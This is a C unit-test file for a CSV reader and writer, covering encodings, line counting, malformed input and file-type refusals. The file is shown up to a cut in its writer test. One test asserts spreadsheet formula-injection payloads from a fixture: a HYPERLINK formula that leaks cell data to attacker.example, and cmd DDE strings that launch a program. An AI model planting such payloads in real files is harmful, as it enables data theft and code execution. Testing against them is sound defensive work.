/* SPDX-License-Identifier: MIT */
/*
 * Unit tests for src/core/csvio.c: the reader on every CSV fixture (record
 * counts, physical line numbers, encodings, record problems, structural
 * errors, refusals), on files generated here (UTF-16, legacy code pages,
 * semicolons, sequences and line breaks cut by the reader's 64 KiB
 * chunks), and the writer through a round trip.
 *
 * Fixtures come from KITH_FIXTURES (set by tests/CMakeLists.txt);
 * generated files go to KITH_TEST_TMP.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "kith/csvio.h"
#include "kith/util.h"
#include "check.h"

#ifndef KITH_FIXTURES
#define KITH_FIXTURES	"tests/fixtures"
#endif

#define MAXREC		64	/* records kept for inspection */
#define CHUNK		(64 * 1024)	/* the reader's chunk size */

struct rec {
	long		  line;
	long		  number;
	size_t		  n;
	char		**f;		/* copies, NUL-terminated */
	size_t		 *len;
	char		 *problem;	/* copy or NULL */
	long long	  offset;
};

struct got {
	size_t		 count;		/* records seen */
	struct rec	 r[MAXREC];	/* the first MAXREC of them */
	long		 stop_after;	/* return 1 after this many, if > 0 */
	int		 line_is_number; /* check line == number on each */
	long		 bad_lines;	/* records where that failed */
	long		 problems;	/* records with a problem */
	long long	 last_offset;
};

static int		 collect(const struct csv_record *, void *);
static void		 got_free(struct got *);
static char		*fixture(const char *);
static char		*tmp_path(const char *);
static void		 write_file(const char *, const void *, size_t);
static enum kith_status	 read_path(const char *, const struct csv_read_opts *,
			    struct got *, struct csv_info *, struct kith_err *);
static enum kith_status	 read_fixture(const char *, struct got *,
			    struct csv_info *, struct kith_err *);
static const char	*cell(const struct got *, size_t, const char *);
static void		 check_lines(const struct got *, size_t, const long *,
			    size_t);
static size_t		 utf16_put(unsigned char *, const char *, int);
static int		 contains(const char *, const char *);

static void	 test_google(void);
static void	 test_outlook(void);
static void	 test_linkedin(void);
static void	 test_duplicates(void);
static void	 test_cr_only(void);
static void	 test_invalid_utf8(void);
static void	 test_nul_byte(void);
static void	 test_huge_field(void);
static void	 test_ragged_rows(void);
static void	 test_structural(void);
static void	 test_refused(void);
static void	 test_header_only(void);
static void	 test_formula_injection(void);
static void	 test_utf16(void);
static void	 test_legacy(void);
static void	 test_prescan_split(void);
static void	 test_semicolon_bom(void);
static void	 test_lines_and_blanks(void);
static void	 test_huge_crlf(void);
static void	 test_max_field_and_stop(void);
static void	 test_writer(void);

static int
collect(const struct csv_record *rec, void *arg)
{
	struct got	*g = arg;
	struct rec	*r;
	size_t		 i;

	if (g->line_is_number && rec->line != rec->number)
		g->bad_lines++;
	if (rec->problem != NULL)
		g->problems++;
	g->last_offset = rec->offset;
	if (g->count < MAXREC) {
		r = &g->r[g->count];
		r->line = rec->line;
		r->number = rec->number;
		r->n = rec->n;
		r->offset = rec->offset;
		r->f = xcalloc(rec->n, sizeof *r->f);
		r->len = xcalloc(rec->n, sizeof *r->len);
		for (i = 0; i < rec->n; i++) {
			r->f[i] = xmalloc(rec->len[i] + 1);
			memcpy(r->f[i], rec->field[i], rec->len[i] + 1);
			r->len[i] = rec->len[i];
		}
		r->problem = xstrdup(rec->problem);
	}
	g->count++;
	return g->stop_after > 0 && (long)g->count >= g->stop_after;
}

static void
got_free(struct got *g)
{
	size_t	i, j;

	for (i = 0; i < g->count && i < MAXREC; i++) {
		for (j = 0; j < g->r[i].n; j++)
			free(g->r[i].f[j]);
		free(g->r[i].f);
		free(g->r[i].len);
		free(g->r[i].problem);
	}
	memset(g, 0, sizeof *g);
}

/* Path of a fixture under tests/fixtures/csv; caller frees. */
static char *
fixture(const char *name)
{
	return xasprintf("%s/csv/%s", KITH_FIXTURES, name);
}

/* Path of a scratch file; caller frees. */
static char *
tmp_path(const char *name)
{
	const char	*dir = getenv("KITH_TEST_TMP");

	return xasprintf("%s/%s", dir != NULL ? dir : "/tmp", name);
}

static void
write_file(const char *path, const void *data, size_t len)
{
	FILE	*fp;

	if ((fp = fopen(path, "wb")) == NULL) {
		perror(path);
		exit(2);
	}
	if (fwrite(data, 1, len, fp) != len || fclose(fp) != 0) {
		perror(path);
		exit(2);
	}
}

static enum kith_status
read_path(const char *path, const struct csv_read_opts *opts, struct got *g,
    struct csv_info *info, struct kith_err *err)
{
	return csv_read(path, opts, info, collect, g, err);
}

static enum kith_status
read_fixture(const char *name, struct got *g, struct csv_info *info,
    struct kith_err *err)
{
	enum kith_status	 st;
	char			*path = fixture(name);

	st = read_path(path, NULL, g, info, err);
	free(path);
	return st;
}

/* Field name (by the header, record 0) of record i, or NULL. */
static const char *
cell(const struct got *g, size_t i, const char *name)
{
	size_t	c;

	if (g->count == 0 || i >= g->count || i >= MAXREC)
		return NULL;
	for (c = 0; c < g->r[0].n; c++)
		if (strcmp(g->r[0].f[c], name) == 0)
			return c < g->r[i].n ? g->r[i].f[c] : NULL;
	return NULL;
}

/* Checks the lines of records first, first + 1, ... against want. */
static void
check_lines(const struct got *g, size_t first, const long *want, size_t n)
{
	size_t	i;

	CHECK_INT(g->count, first + n);
	for (i = 0; i < n && first + i < g->count && first + i < MAXREC; i++)
		if (g->r[first + i].line != want[i]) {
			fprintf(stderr, "record %zu: line %ld, expected %ld\n",
			    first + i, g->r[first + i].line, want[i]);
			CHECK(g->r[first + i].line == want[i]);
		}
}

/*
 * Writes UTF-8 s as UTF-16 (big-endian if be) at out; returns the bytes
 * written (out may be NULL to measure).
 */
static size_t
utf16_put(unsigned char *out, const char *s, int be)
{
	const unsigned char	*p = (const unsigned char *)s;
	unsigned long		 cp, u[2];
	size_t			 n = 0, k, i;

	while (*p != '\0') {
		if (*p < 0x80)
			cp = *p++;
		else if (*p < 0xe0) {
			cp = (unsigned long)(p[0] & 0x1f) << 6 | (p[1] & 0x3f);
			p += 2;
		} else if (*p < 0xf0) {
			cp = (unsigned long)(p[0] & 0x0f) << 12 |
			    (unsigned long)(p[1] & 0x3f) << 6 | (p[2] & 0x3f);
			p += 3;
		} else {
			cp = (unsigned long)(p[0] & 0x07) << 18 |
			    (unsigned long)(p[1] & 0x3f) << 12 |
			    (unsigned long)(p[2] & 0x3f) << 6 | (p[3] & 0x3f);
			p += 4;
		}
		if (cp >= 0x10000) {
			u[0] = 0xd800 + ((cp - 0x10000) >> 10);
			u[1] = 0xdc00 + ((cp - 0x10000) & 0x3ff);
			k = 2;
		} else {
			u[0] = cp;
			k = 1;
		}
		for (i = 0; i < k; i++, n += 2)
			if (out != NULL) {
				out[n + !be] = (unsigned char)(u[i] >> 8);
				out[n + be] = (unsigned char)(u[i] & 0xff);
			}
	}
	return n;
}

static int
contains(const char *s, const char *sub)
{
	return s != NULL && strstr(s, sub) != NULL;
}

static void
test_google(void)
{
	static const long	 lines[] = { 2, 3, 5, 6, 7, 10, 11, 12, 13, 14,
	    17, 18, 19, 20, 23, 24, 25, 26, 27, 28, 29, 31, 32, 33, 34, 35,
	    36 };
	struct got		 g = { 0 };
	struct csv_info		 info;
	struct kith_err		 err;

	CHECK_INT(read_fixture("google.csv", &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "UTF-8");
	CHECK_INT(info.delim, ',');
	CHECK_INT(info.size, 5036);
	CHECK_INT(g.r[0].line, 1);
	CHECK_INT(g.r[0].n, 40);
	CHECK_STR(g.r[0].f[0], "First Name");
	check_lines(&g, 1, lines, sizeof lines / sizeof lines[0]);
	CHECK_INT(g.r[1].number, 2);
	CHECK_INT(g.problems, 0);
	/* P02: un-doubled quotes and an LF. */
	CHECK_STR(cell(&g, 2, "First Name"), "Đorđe");
	CHECK_STR(cell(&g, 2, "Notes"), "Upoznali smo se na konferenciji "
	    "\"DevFest Beograd\".\nKaže: \"zovi posle 18h\", ne pre.");
	/* Record 13 (line 19) is all empty but still a record. */
	CHECK_STR(cell(&g, 13, "First Name"), "");
	CHECK_INT(g.r[13].n, 40);
	CHECK_INT(g.last_offset, 5036);
	got_free(&g);
}

static void
test_outlook(void)
{
	static const long	 lines[] = { 2, 3, 4, 5, 6, 7, 8, 10, 11, 12,
	    13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 24, 25, 26, 27, 28 };
	struct got		 g = { 0 };
	struct csv_info		 info;
	struct kith_err		 err;

	CHECK_INT(read_fixture("outlook.csv", &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "UTF-8 with BOM");
	CHECK_INT(info.delim, ',');
	CHECK_STR(g.r[0].f[0], "First Name");
	CHECK_INT(g.r[0].len[0], 10);
	CHECK_INT(g.r[0].n, 61);
	check_lines(&g, 1, lines, sizeof lines / sizeof lines[0]);
	CHECK(contains(cell(&g, 7, "Notes"), "\r\n"));
	CHECK(contains(cell(&g, 20, "Notes"), "\r\n"));
	CHECK_INT(g.problems, 0);
	got_free(&g);
}

static void
test_linkedin(void)
{
	struct got	 g = { 0 };
	struct csv_info	 info;
	struct kith_err	 err;
	long		 lines[25];
	size_t		 i;

	for (i = 0; i < 25; i++)
		lines[i] = 5 + (long)i;
	CHECK_INT(read_fixture("linkedin-connections.csv", &g, &info, &err),
	    KITH_OK);
	CHECK_INT(info.delim, ',');
	/* The preamble: "Notes:", the paragraph, a blank line. */
	CHECK_INT(g.r[0].line, 1);
	CHECK_INT(g.r[0].n, 1);
	CHECK_STR(g.r[0].f[0], "Notes:");
	CHECK_INT(g.r[1].line, 2);
	CHECK_INT(g.r[1].n, 1);
	CHECK_INT(g.r[2].line, 4);
	CHECK_INT(g.r[2].number, 3);
	CHECK_INT(g.r[2].n, 7);
	CHECK_STR(g.r[2].f[0], "First Name");
	check_lines(&g, 3, lines, 25);
	CHECK_INT(g.r[3].number, 4);
	got_free(&g);
}

static void
test_duplicates(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;
	long		 lines[22];
	size_t		 i;

	for (i = 0; i < 22; i++)
		lines[i] = 2 + (long)i;
	CHECK_INT(read_fixture("duplicates.csv", &g, NULL, &err), KITH_OK);
	check_lines(&g, 1, lines, 22);
	got_free(&g);
}

static void
test_cr_only(void)
{
	static const long	 lines[] = { 2, 4, 5 };
	struct got		 g = { 0 };
	struct kith_err		 err;

	CHECK_INT(read_fixture("malformed/cr-only-line-endings.csv", &g, NULL,
	    &err), KITH_OK);
	check_lines(&g, 1, lines, 3);
	CHECK_STR(cell(&g, 1, "Notes"), "Dva\rreda");
	CHECK_STR(cell(&g, 3, "First Name"), "Teja");
	got_free(&g);
}

static void
test_invalid_utf8(void)
{
	static const char	*want[] = {
		"field 3: invalid UTF-8 at byte 4",	/* C3 28 */
		"field 3: invalid UTF-8 at byte 5",	/* lone A9 */
		"field 3: invalid UTF-8 at byte 9",	/* C0 AF */
		"field 3: invalid UTF-8 at byte 10",	/* ED A0 80 */
		"field 3: invalid UTF-8 at byte 4",	/* E8 */
		"field 3: invalid UTF-8 at byte 4",	/* E2 82 */
		"field 3: invalid UTF-8 at byte 4",	/* FF */
	};
	struct got		 g = { 0 };
	struct csv_info		 info;
	struct kith_err		 err;
	size_t			 i;

	CHECK_INT(read_fixture("malformed/invalid-utf8.csv", &g, &info, &err),
	    KITH_OK);
	CHECK_STR(info.encoding, "UTF-8");
	CHECK_INT(g.count, 11);
	CHECK_INT(g.problems, 7);
	for (i = 1; i <= 10; i++)
		CHECK_INT(g.r[i].line, (long)i + 1);
	CHECK(g.r[1].problem == NULL);
	CHECK(g.r[2].problem == NULL);
	CHECK(g.r[10].problem == NULL);
	CHECK_STR(cell(&g, 1, "Last Name"), "Stojanović");
	for (i = 0; i < 7; i++)
		CHECK_STR(g.r[3 + i].problem, want[i]);
	got_free(&g);
}

static void
test_nul_byte(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;

	CHECK_INT(read_fixture("malformed/nul-byte.csv", &g, NULL, &err),
	    KITH_OK);
	CHECK_INT(g.count, 5);
	CHECK_INT(g.problems, 2);
	CHECK(g.r[1].problem == NULL);
	CHECK_STR(g.r[2].problem, "field 1: contains a NUL byte");
	CHECK_INT(g.r[2].line, 3);
	CHECK_INT(g.r[2].len[0], 5);	/* "Ne\0na" */
	CHECK_STR(g.r[3].problem, "field 19: contains a NUL byte");
	CHECK_INT(g.r[3].line, 4);
	CHECK(g.r[4].problem == NULL);
	CHECK_INT(g.r[4].line, 5);
	got_free(&g);
}

static void
test_huge_field(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;

	CHECK_INT(read_fixture("malformed/huge-field.csv", &g, NULL, &err),
	    KITH_OK);
	CHECK_INT(g.count, 4);
	CHECK(g.r[1].problem == NULL);
	CHECK_INT(g.r[2].line, 3);
	CHECK_STR(g.r[2].problem, "field 15: larger than 1 MiB");
	CHECK_INT(g.r[2].n, 21);
	CHECK_INT(g.r[3].line, 32772);
	CHECK(g.r[3].problem == NULL);
	CHECK_INT(g.r[3].n, 21);
	CHECK_INT(g.last_offset, 2163193);
	got_free(&g);
}

static void
test_ragged_rows(void)
{
	static const size_t	 nf[] = { 21, 21, 17, 23, 23, 1, 3 };
	struct got		 g = { 0 };
	struct kith_err		 err;
	size_t			 i;

	CHECK_INT(read_fixture("malformed/ragged-rows.csv", &g, NULL, &err),
	    KITH_OK);
	CHECK_INT(g.count, 7);
	for (i = 0; i < 7 && i < g.count; i++) {
		CHECK_INT(g.r[i].n, nf[i]);
		CHECK_INT(g.r[i].line, (long)i + 1);
	}
	got_free(&g);
}

static void
test_structural(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;
	char		*path;
	const char	*s;

	path = fixture("malformed/stray-quotes.csv");
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_INVALID);
	CHECK_INT(err.line, 3);
	CHECK(strncmp(err.msg, path, strlen(path)) == 0);
	CHECK(contains(err.msg, ":3: malformed quoting"));
	CHECK_INT(g.count, 2);	/* the header and record 1 */
	got_free(&g);
	free(path);

	path = fixture("malformed/unterminated-quote.csv");
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_INVALID);
	CHECK_INT(err.line, 5);
	CHECK(strncmp(err.msg, path, strlen(path)) == 0);
	CHECK(contains(err.msg, ":5: a quoted field opened on line 5 is "
	    "never closed"));
	CHECK_INT(g.count, 4);	/* the header and records 1-3 */
	got_free(&g);
	free(path);

	/* A quoting error inside a multi-line field names its own line. */
	path = tmp_path("csvio-late-quote.csv");
	s = "a,b\n1,\"x\ny\nz\" w\n";
	write_file(path, s, strlen(s));
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_INVALID);
	CHECK_INT(err.line, 4);
	got_free(&g);
	free(path);
}

static void
test_refused(void)
{
	static const struct {
		const char	*data;
		size_t		 len;
		const char	*msg;
	} cases[] = {
		{ "%PDF-1.4\n", 9, "(looks like a PDF document)" },
		{ "PK\x03\x04\x14\0\0\0", 8, "(looks like a ZIP archive" },
		{ "SQLite format 3\0\x10\0", 18,
		    "(looks like an SQLite database)" },
		{ "\x1f\x8b\x08\0", 4, "(looks like a gzip archive)" },
		{ "\x7f" "ELF\x02\x01", 6, "(looks like a program)" },
		{ "a\0b\0,\0c\0\n\0", 10, "UTF-16 without a byte-order mark" },
		{ "a,b\n\x01\x02\x03\x04\x05\x06\x07\x08,\x0e\x0f\n", 16,
		    "binary data (a control byte 0x01 at offset 4), not a CSV "
		    "file" },
		{ "a,b\n\x01\0\x03\x04\x05\x06\x07\x08,\x0e\x0f\n", 16,
		    "binary data (a NUL byte at offset 5), not a CSV file" },
		{ "\r\nBEGIN:VCARD\r\nFN:A\r\nEND:VCARD\r\n", 32,
		    "looks like a vCard file (BEGIN:VCARD on line 2), not "
		    "CSV; kith import reads it as vCard without --format" },
		{ "\xef\xbb\xbf", 3, "empty file, no header" },
	};
	struct got	 g = { 0 };
	struct kith_err	 err;
	char		*path;
	size_t		 i;

	path = fixture("malformed/binary-garbage.csv");
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_INVALID);
	CHECK(strncmp(err.msg, path, strlen(path)) == 0);
	CHECK(contains(err.msg, ": not a CSV file (looks like a PNG image)"));
	CHECK_INT(g.count, 0);
	free(path);

	path = fixture("malformed/empty.csv");
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_INVALID);
	CHECK(strncmp(err.msg, path, strlen(path)) == 0);
	CHECK(contains(err.msg, ": empty file, no header"));
	CHECK_INT(g.count, 0);
	free(path);

	path = fixture("malformed/no-such-file.csv");
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_IO);
	CHECK(strncmp(err.msg, path, strlen(path)) == 0);
	free(path);

	path = tmp_path("csvio-refused.csv");
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		write_file(path, cases[i].data, cases[i].len);
		CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_INVALID);
		if (!contains(err.msg, cases[i].msg))
			fprintf(stderr, "case %zu: %s\n", i, err.msg);
		CHECK(contains(err.msg, cases[i].msg));
		CHECK_INT(g.count, 0);
	}
	free(path);
}

static void
test_header_only(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;

	CHECK_INT(read_fixture("malformed/header-only.csv", &g, NULL, &err),
	    KITH_OK);
	CHECK_INT(g.count, 1);
	CHECK_INT(g.r[0].n, 21);
	CHECK_STR(g.r[0].f[20], "Phone 1 - Value");
	got_free(&g);
}

static void
test_formula_injection(void)
{
	static const long	 lines[] = { 2, 3, 4, 5, 6, 7, 8, 10, 11, 12 };
	struct got		 g = { 0 };
	struct kith_err		 err;

	CHECK_INT(read_fixture("malformed/formula-injection.csv", &g, NULL,
	    &err), KITH_OK);
	check_lines(&g, 1, lines, 10);
	CHECK_STR(cell(&g, 1, "Notes"), "=HYPERLINK(\"http://attacker.example/"
	    "?leak=\"&A1,\"Click for details\")");
	CHECK_STR(cell(&g, 2, "First Name"), "+cmd|' /C calc'!A0");
	CHECK_STR(cell(&g, 3, "Last Name"), "-2+3+cmd|' /C calc'!A0");
	CHECK_STR(cell(&g, 6, "Notes"), "\t=1+1");
	CHECK_STR(cell(&g, 7, "Notes"), "\r=1+1");
	CHECK_STR(cell(&g, 8, "Phone 1 - Value"), "+1 555-010-0143");
	CHECK_INT(g.problems, 0);
	got_free(&g);
}

static void
test_utf16(void)
{
	static const char	*row =
	    "Đorđe Müller,Beograd 🎸,\"a, b\"\r\n";
	struct got		 g = { 0 };
	struct csv_info		 info;
	struct kith_err		 err;
	unsigned char		*buf, *p;
	char			*path, *fill;
	size_t			 rowlen, n, i, k;
	int			 be;

	path = tmp_path("csvio-utf16.csv");
	rowlen = utf16_put(NULL, row, 0);
	for (be = 0; be <= 1; be++) {
		/*
		 * BOM, a header, a row whose emoji's surrogate pair straddles
		 * the first 64 KiB boundary, then enough rows to cross more.
		 */
		k = (CHUNK - 2 - 2 * strlen("A,B\r\n") - 2) / 2;
		fill = xmalloc(k + 32);
		memset(fill, 'x', k);
		strcpy(fill + k, "🎸,y\r\n");
		buf = xmalloc(2 + 64 + 4 * k + 5000 * rowlen);
		p = buf;
		*p++ = be ? 0xfe : 0xff;
		*p++ = be ? 0xff : 0xfe;
		p += utf16_put(p, "A,B\r\n", be);
		p += utf16_put(p, fill, be);
		for (i = 0; i < 5000; i++)
			p += utf16_put(p, row, be);
		n = (size_t)(p - buf);
		write_file(path, buf, n);
		g.line_is_number = 1;
		CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
		CHECK_STR(info.encoding, be ? "UTF-16BE" : "UTF-16LE");
		CHECK_INT(info.delim, ',');
		CHECK_INT(g.count, 5002);
		CHECK_INT(g.bad_lines, 0);
		CHECK_INT(g.problems, 0);
		CHECK_STR(g.r[0].f[0], "A");
		CHECK_INT(g.r[1].len[0], k + 4);
		CHECK(g.r[1].len[0] == k + 4 &&
		    strcmp(g.r[1].f[0] + k, "🎸") == 0);
		CHECK_STR(g.r[2].f[0], "Đorđe Müller");
		CHECK_STR(g.r[2].f[1], "Beograd 🎸");
		CHECK_STR(g.r[2].f[2], "a, b");
		CHECK_INT(g.last_offset, (long long)n);
		got_free(&g);
		free(buf);
		free(fill);
	}

	/* A lone surrogate is a record problem, not a silent U+FFFD. */
	buf = xmalloc(64);
	n = 0;
	buf[n++] = 0xff;
	buf[n++] = 0xfe;
	n += utf16_put(buf + n, "a,b\nc", 0);
	buf[n++] = 0x00;
	buf[n++] = 0xd8;	/* high surrogate, then no low one */
	n += utf16_put(buf + n, ",d\n", 0);
	write_file(path, buf, n);
	CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
	CHECK_INT(g.count, 2);
	CHECK_STR(g.r[1].problem, "field 1: invalid UTF-16LE at byte 2");
	CHECK_STR(g.r[1].f[1], "d");
	got_free(&g);
	free(buf);
	free(path);
}

static void
test_legacy(void)
{
	struct csv_read_opts	 opts = { 0 };
	struct got		 g = { 0 };
	struct csv_info		 info;
	struct kith_err		 err;
	char			*path, *buf;
	const char		*s;
	size_t			 n, i;

	path = tmp_path("csvio-legacy.csv");
	s = "Ime;Grad\r\nM\xfcller;Caf\xe9\r\n\x80 Euro;x\r\n";
	write_file(path, s, strlen(s));
	CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "WINDOWS-1252");
	CHECK_INT(info.delim, ';');
	CHECK_INT(g.count, 3);
	CHECK_STR(g.r[1].f[0], "Müller");
	CHECK_STR(g.r[1].f[1], "Café");
	CHECK_STR(g.r[2].f[0], "€ Euro");
	CHECK_INT(g.r[2].line, 3);
	got_free(&g);

	/* The user picks the code page. */
	s = "Ime;Grad\n\xc8" "a\xe8" "ak;x\n";
	write_file(path, s, strlen(s));
	opts.legacy = "WINDOWS-1250";
	CHECK_INT(read_path(path, &opts, &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "WINDOWS-1250");
	CHECK_STR(g.r[1].f[0], "Čačak");
	got_free(&g);

	opts.legacy = "NO-SUCH-CHARSET";
	CHECK_INT(read_path(path, &opts, &g, &info, &err), KITH_INVALID);
	CHECK(contains(err.msg, "NO-SUCH-CHARSET"));
	got_free(&g);

	/* The only high byte lies past the first chunk: still found. */
	n = 0;
	buf = xmalloc(200 * 1024);
	n += (size_t)sprintf(buf + n, "Name;City\n");
	for (i = 0; n < 150 * 1024; i++)
		n += (size_t)sprintf(buf + n, "Person %zu;Town\n", i);
	n += (size_t)sprintf(buf + n, "M\xfcller;Caf\xe9\n");
	write_file(path, buf, n);
	g.line_is_number = 1;
	CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "WINDOWS-1252");
	CHECK_INT(g.count, i + 2);
	CHECK_INT(g.bad_lines, 0);
	CHECK_INT(g.problems, 0);
	got_free(&g);
	free(buf);
	free(path);
}

static void
test_prescan_split(void)
{
	struct got	 g = { 0 };
	struct csv_info	 info;
	struct kith_err	 err;
	char		*path, *buf;
	size_t		 n;

	/* "č" (C4 8D) cut by the first chunk boundary is UTF-8. */
	path = tmp_path("csvio-split.csv");
	buf = xmalloc(CHUNK + 64);
	n = (size_t)sprintf(buf, "a,b\n1,");
	memset(buf + n, 'x', CHUNK - 1 - n);
	n = CHUNK - 1;
	n += (size_t)sprintf(buf + n, "\xc4\x8d\n2,\xe8\n");
	write_file(path, buf, n);
	CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "UTF-8");
	CHECK_INT(g.count, 3);
	CHECK(g.r[1].problem == NULL);
	CHECK_INT(g.r[1].len[1], CHUNK - 7 + 2);
	CHECK_STR(g.r[2].problem, "field 2: invalid UTF-8 at byte 1");
	got_free(&g);
	free(buf);
	free(path);
}

static void
test_semicolon_bom(void)
{
	struct got	 g = { 0 };
	struct csv_info	 info;
	struct kith_err	 err;
	char		*path;
	const char	*s;

	path = tmp_path("csvio-semicolon.csv");
	s = "\xef\xbb\xbfIme;Prezime;Firma\r\n"
	    "Ana;Petrović;Foo, Inc.\r\n"
	    "Marko;Marković;\"A;B\"\r\n"
	    ";;\r\n";
	write_file(path, s, strlen(s));
	CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
	CHECK_STR(info.encoding, "UTF-8 with BOM");
	CHECK_INT(info.delim, ';');
	CHECK_INT(g.count, 4);
	CHECK_STR(g.r[0].f[0], "Ime");
	CHECK_STR(g.r[1].f[2], "Foo, Inc.");
	CHECK_STR(g.r[2].f[2], "A;B");
	CHECK_INT(g.r[3].n, 3);
	CHECK_INT(g.r[3].line, 4);
	got_free(&g);

	s = "a\tb\tc\n1\t2, 3\t4\n";
	write_file(path, s, strlen(s));
	CHECK_INT(read_path(path, NULL, &g, &info, &err), KITH_OK);
	CHECK_INT(info.delim, '\t');
	CHECK_STR(g.r[1].f[1], "2, 3");
	got_free(&g);
	free(path);
}

static void
test_lines_and_blanks(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;
	char		*path;
	const char	*s;

	path = tmp_path("csvio-lines.csv");
	/* CR, LF and CRLF in a mix; blank and blank-looking lines. */
	s = "h1,h2\r\n\r\n  \r\nb,\"x\r\ny\"\rc,\"\n\r\"\n,\nd , \" e \"";
	write_file(path, s, strlen(s));
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_OK);
	CHECK_INT(g.count, 5);
	CHECK_INT(g.r[1].line, 4);
	CHECK_STR(g.r[1].f[1], "x\r\ny");
	CHECK_INT(g.r[2].line, 6);
	CHECK_STR(g.r[2].f[1], "\n\r");
	CHECK_INT(g.r[3].line, 9);
	CHECK_INT(g.r[3].n, 2);
	CHECK_INT(g.r[4].line, 10);
	CHECK_STR(g.r[4].f[0], "d");
	CHECK_STR(g.r[4].f[1], " e ");
	got_free(&g);
	free(path);
}

static void
test_huge_crlf(void)
{
	struct got	 g = { 0 };
	struct kith_err	 err;
	char		*path, *buf;
	size_t		 n, i, reps = 300000;
	int		 phase;

	/*
	 * A 1.2 MB quoted field of CRLF lines: the reader trims it inside
	 * libcsv at chunk boundaries, which fall on every byte of "xy\r\n"
	 * over the four phases; the lines must still add up.
	 */
	path = tmp_path("csvio-huge.csv");
	buf = xmalloc(4 * reps + 64);
	for (phase = 0; phase < 4; phase++) {
		n = (size_t)sprintf(buf, "a%.*s,b\r\n1,\"", phase, "___");
		for (i = 0; i < reps; i++) {
			memcpy(buf + n, "xy\r\n", 4);
			n += 4;
		}
		n += (size_t)sprintf(buf + n, "\"  \r\n2,ok\r\n");
		write_file(path, buf, n);
		CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_OK);
		CHECK_INT(g.count, 3);
		CHECK_STR(g.r[1].problem, "field 2: larger than 1 MiB");
		CHECK_INT(g.r[1].line, 2);
		CHECK_INT(g.r[2].line, 2 + (long)reps + 1);
		CHECK_STR(g.r[2].f[1], "ok");
		got_free(&g);
	}
	free(buf);
	free(path);
}

static void
test_max_field_and_stop(void)
{
	struct csv_read_opts	 opts = { 0 };
	struct got		 g = { 0 };
	struct kith_err		 err;
	char			*path;
	const char		*s;

	path = tmp_path("csvio-small.csv");
	s = "a,b\n1,0123456789\n2,0123456789A\n3,x\n";
	write_file(path, s, strlen(s));
	opts.max_field = 10;
	CHECK_INT(read_path(path, &opts, &g, NULL, &err), KITH_OK);
	CHECK_INT(g.count, 4);
	CHECK(g.r[1].problem == NULL);
	CHECK_STR(g.r[2].problem, "field 2: larger than 10 bytes");
	CHECK(g.r[3].problem == NULL);
	got_free(&g);

	/*
	 * A field past the limit within one chunk, quoted, with line breaks
	 * and doubled quotes in the part withheld: the record has a problem,
	 * the quoting after it is read as written, and lines still count.
	 */
	s = "a,b\n1,\"0123456789\nxx\"\"y\r\nz,\"\"\n\n\"\n2,ok\n"
	    "3,abcdefghijklmnop\n4,\"q\"\"\"\n";
	write_file(path, s, strlen(s));
	opts.max_field = 10;
	CHECK_INT(read_path(path, &opts, &g, NULL, &err), KITH_OK);
	CHECK_INT(g.count, 5);
	CHECK_STR(g.r[1].problem, "field 2: larger than 10 bytes");
	CHECK_INT(g.r[1].line, 2);
	CHECK(g.r[2].problem == NULL);
	CHECK_INT(g.r[2].line, 7);
	CHECK_STR(g.r[2].f[1], "ok");
	CHECK_STR(g.r[3].problem, "field 2: larger than 10 bytes");
	CHECK_INT(g.r[3].line, 8);
	CHECK(g.r[4].problem == NULL);
	CHECK_INT(g.r[4].line, 9);
	CHECK_STR(g.r[4].f[1], "q\"");
	got_free(&g);
	/* A bad quote after a withheld field is placed on its line. */
	s = "a,b\n1,\"0123456789\nxx\ny\"z\n";
	write_file(path, s, strlen(s));
	CHECK_INT(read_path(path, &opts, &g, NULL, &err), KITH_INVALID);
	CHECK_INT(err.line, 4);
	got_free(&g);
	s = "a,b\n1,0123456789\n2,0123456789A\n3,x\n";
	write_file(path, s, strlen(s));

	/* The callback stops the read: KITH_OK, nothing more delivered. */
	g.stop_after = 2;
	CHECK_INT(read_path(path, NULL, &g, NULL, &err), KITH_OK);
	CHECK_INT(g.count, 2);
	got_free(&g);

	/* An explicit delimiter overrides sniffing. */
	opts.max_field = 0;
	opts.delim = ';';
	CHECK_INT(read_path(path, &opts, &g, NULL, &err), KITH_OK);
	CHECK_INT(g.r[0].n, 1);
	CHECK_STR(g.r[0].f[0], "a,b");
	got_free(&g);
	free(path);
}

static void
test_writer(void)
{
	static const char	*rows[][6] = {
		{ "plain", "with,comma", "with \"quotes\"", "two\nlines",
		    "cr\rhere", "crlf\r\nhere" },
		{ " lead", "trail ", "\ttab", "", NULL, "Đorđe 🎸" },
		{ "=1+1", "+381 64", "-minus", "@SUM(A1)", "\t=1", "\r=1" },
		{ "'quoted'", "\"", "a;b", "x\"", "=", "ok" },
	};
	static const char	*lone[1] = { "" };
	struct got		 g = { 0 };
	struct kith_err		 err;
	struct csv_out		*o;
	FILE			*fp;
	char			*path;
	const char		*want;
	size_t			 i, j;
	int			 neut, crlf;

	path = tmp_path("csvio-out.csv");
	for (neut = 0; neut <= 1; neut++)
